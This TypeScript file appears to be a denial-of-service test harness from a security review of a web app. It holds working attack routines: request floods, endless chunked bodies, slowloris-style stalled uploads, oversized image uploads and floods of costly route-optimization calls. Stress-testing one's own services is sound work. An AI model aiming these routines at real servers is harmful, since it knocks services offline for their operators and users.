import { randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import sharp from 'sharp';
import { COAST_TO_COAST, createTripRequest } from './country.ts';

export type Attacker = {
  readonly url: string;
  readonly clientHeaders: Readonly<Record<string, string>>;
  readonly queries: readonly string[];
  readonly accounts: readonly { readonly headers: Record<string, string>; readonly reviewId: string }[];
};

type AttackRequest = { readonly path: string; readonly body?: unknown; readonly headers?: Record<string, string> };

type StopAttack = () => void;

const REPEAT_MS = 5;
const CONNECTIONS = 8;
const BODY_COUNT = 60;
const BODY_PATHS = ['/api/review-photos', '/api/user/favorites/import', '/api/search', '/healthz'];
const CHUNK = `10000\r\n${'x'.repeat(65_536)}\r\n`;
const PICTURE_SIDE_PX = 3_990;

const WAYPOINTS = [
  { lat: 47.61, lng: -122.33, label: 'Seattle, WA' },
  { lat: 32.78, lng: -96.8, label: 'Dallas, TX' },
  { lat: 44.98, lng: -93.27, label: 'Minneapolis, MN' },
  { lat: 33.75, lng: -84.39, label: 'Atlanta, GA' },
];

/** Sends requests endlessly over several connections; each sends its next request after the previous response. */
function startFlood(
  url: string,
  connections: number,
  createRequest: (connection: number) => AttackRequest,
): StopAttack {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  let isOver = false;
  const send = (connection: number) => {
    if (isOver) return;
    const { path, body, headers } = createRequest(connection);
    const text = body === undefined ? undefined : JSON.stringify(body);
    const sendAgain = () => setTimeout(() => send(connection), REPEAT_MS);
    const outgoing = request(
      `${url}${path}`,
      {
        method: text === undefined ? 'GET' : 'POST',
        agent,
        headers: { 'content-type': 'application/json', ...headers },
      },
      (response) => response.resume().once('close', sendAgain),
    );
    outgoing.once('error', sendAgain);
    outgoing.end(text);
  };
  for (let connection = 0; connection < connections; connection += 1) send(connection);
  return () => {
    isOver = true;
    agent.destroy();
  };
}

/** Sends an endless body as fast as the server reads it; reconnects when disconnected. */
function sendEndlessBody({ url: server, clientHeaders }: Attacker, path: string): StopAttack {
  const url = new URL(server);
  const head = Object.entries(clientHeaders).map(([name, value]) => `${name}: ${value}\r\n`);
  let socket: Socket | null = null;
  let isOver = false;
  const openConnection = () => {
    if (isOver) return;
    const opened = connect(Number(url.port), url.hostname);
    socket = opened;
    const writeUntilFull = () => {
      while (!opened.destroyed && opened.write(CHUNK));
    };
    opened.on('drain', writeUntilFull).on('error', () => undefined);
    opened.once('close', () => setTimeout(openConnection, REPEAT_MS));
    opened.resume().once('connect', () => {
      opened.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
      opened.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\na\r\n{"query":"\r\n`);
      writeUntilFull();
    });
  };
  openConnection();
  return () => {
    isOver = true;
    socket?.destroy();
  };
}

/** Announces a large body but never sends it; reconnects when disconnected. */
function holdUpload({ url, clientHeaders }: Attacker, headers: Record<string, string>): StopAttack {
  const { hostname, port, host } = new URL(url);
  let socket: Socket | null = null;
  let isOver = false;
  const openConnection = () => {
    if (isOver) return;
    const all = { host, 'content-type': 'application/json', 'content-length': '900000', ...headers, ...clientHeaders };
    const head = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
    socket = connect(Number(port), hostname);
    socket.on('error', () => undefined).once('close', () => setTimeout(openConnection, REPEAT_MS));
    socket.resume().write(`POST /api/review-photos HTTP/1.1\r\n${head.join('\r\n')}\r\n\r\n`);
  };
  openConnection();
  return () => {
    isOver = true;
    socket?.destroy();
  };
}

async function createHeavyPicture(): Promise<string> {
  const create = { width: PICTURE_SIDE_PX, height: PICTURE_SIDE_PX, channels: 3, background: 'teal' } as const;
  return (await sharp({ create }).avif({ effort: 0 }).toBuffer()).toString('base64');
}

const combineStops = (stops: readonly StopAttack[]) => () => {
  for (const stop of stops) stop();
};

let sentCount = 0;

/** Attacks from a security review, each run by one client. */
export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<StopAttack> | StopAttack>> = {
  words: ({ url, clientHeaders, queries }) =>
    startFlood(url, CONNECTIONS, () => {
      sentCount += 1;
      return { path: '/api/search', body: { query: queries[sentCount % queries.length] }, headers: clientHeaders };
    }),
  tiles: ({ url, clientHeaders, queries }) =>
    startFlood(url, CONNECTIONS, () => {
      sentCount += 1;
      const filters = { text: `${queries[sentCount % queries.length]?.slice(0, 190)}${sentCount}` };
      return {
        path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`,
        headers: clientHeaders,
      };
    }),
  bodies: (attacker) =>
    combineStops(
      Array.from({ length: BODY_COUNT }, (_, index) =>
        sendEndlessBody(attacker, BODY_PATHS[index % BODY_PATHS.length] ?? ''),
      ),
    ),
  uploads: (attacker) =>
    combineStops(attacker.accounts.slice(0, 14).map(({ headers }) => holdUpload(attacker, headers))),
  description: ({ url, clientHeaders }) =>
    startFlood(url, 10, () => ({ path: '/api/openapi.json', headers: clientHeaders })),
  photos: async ({ url, clientHeaders, accounts }) => {
    const image = await createHeavyPicture();
    return startFlood(url, 16, (connection) => {
      const { headers = {}, reviewId = '' } = accounts[connection % accounts.length] ?? {};
      const body = { id: randomUUID(), reviewId, image };
      return { path: '/api/review-photos', body, headers: { ...headers, ...clientHeaders } };
    });
  },
  plans: ({ url, clientHeaders, accounts }) =>
    startFlood(url, accounts.length, (connection) => ({
      path: '/api/routes/premium/optimize',
      body: createTripRequest(COAST_TO_COAST),
      headers: { ...accounts[connection]?.headers, ...clientHeaders },
    })),
  'plans.one': ({ url, clientHeaders, accounts }) =>
    startFlood(url, 30, () => ({
      path: '/api/routes/premium/optimize',
      body: { ...createTripRequest(COAST_TO_COAST), waypoints: WAYPOINTS, nights: { afterDriveMin: 480 } },
      headers: { ...accounts[0]?.headers, ...clientHeaders },
    })),
};
